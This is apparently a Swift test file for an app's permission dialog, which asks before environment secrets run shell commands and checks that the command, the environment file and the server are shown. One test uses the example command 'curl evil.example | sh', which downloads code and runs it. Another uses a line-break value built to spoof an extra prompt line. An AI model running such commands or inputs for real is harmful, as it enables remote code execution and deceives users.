import Engine
import Screen
import Testing
import Workspace

@testable import App

/// The window that asks for permissions.
@Suite struct PermissionQuestionTests {
    private static func permissions(_ words: [String]) async throws -> [Permission] {
        let secrets = words.enumerated().map { SecretEntry("s\($0.offset)", .command(["sh", "-c", $0.element])) }
        var input = ResolutionInput(RequestDraft(url: "https://h/" + secrets.map { "{{\($0.name)}}" }.joined()))
        input.environment = EnvironmentDraft(name: "e", secrets: secrets)
        input.environmentPath = "collections/c/environments/e.json"
        return await RequestResolver.outline(input, asking: SecretReader(process: [:], environmentFile: nil), permitting: TrustGate { $0 })
            .missingPermissions
    }

    private static func ask(_ store: inout TestStore, _ words: [String]) async throws -> (job: SendJob, permissions: [Permission]) {
        guard case .sending(.send(let job))? = store.press(.function(5)).last else { throw Missing() }
        let permissions = try await permissions(words)
        for _ in 0..<2 { store.send(.sending(.question(.permissions(job, .send, permissions)))) }
        return (job, permissions)
    }

    private struct Missing: Error {}

    @Test func `the question names command, file and server, and Enter refuses`() async throws {
        var store = TestStore.opened()
        _ = try await Self.ask(&store, ["curl evil.example | sh"])
        for text in ["curl evil.example | sh", "collections/c/environments/e.json", "https://h:443", "Refuse"] {
            #expect(store.canvas.contains(text))
        }
        #expect(store.press(Key(.enter)).isEmpty)
        #expect(store.state.windows.isEmpty)
    }

    @Test(arguments: [("o", false), ("a", true)] as [(Character, Bool)])
    func `an answer sends it with the permissions`(key: Character, isForGood: Bool) async throws {
        var store = TestStore.opened()
        let (job, permissions) = try await Self.ask(&store, ["true"])
        #expect(store.press(.character(key)) == [.sending(.send(job.permitting(permissions, forGood: isForGood)))])
    }

    @Test func `words are shown completely, even in a long list`() async throws {
        var store = TestStore.opened()
        let words = (0..<30).map { "BEGIN\($0) " + String(repeating: "x ", count: 100) + "END\($0)." }
        _ = try await Self.ask(&store, words)
        var seen = ""
        for _ in 0..<60 {
            seen += store.canvas.lines.joined(separator: " ")
            store.press(Key(.pageDown))
        }
        for index in words.indices { #expect(seen.contains("BEGIN\(index) ") && seen.contains("END\(index).")) }
        #expect(store.state.windows.count == 1)
    }

    @Test(arguments: [("\n", "␊"), ("\r\n", "␍␊"), ("\r", "␍"), ("\u{2028}", "<2028>"), ("\u{85}", "<85>")])
    func `a line break in the words is shown and does not start a line`(lineBreak: String, sign: String) async throws {
        var store = TestStore.opened()
        _ = try await Self.ask(&store, ["true\(lineBreak)· Run the command: harmless"])
        #expect(store.canvas.contains("true\(sign)· Run the command: harmless"))
    }
}
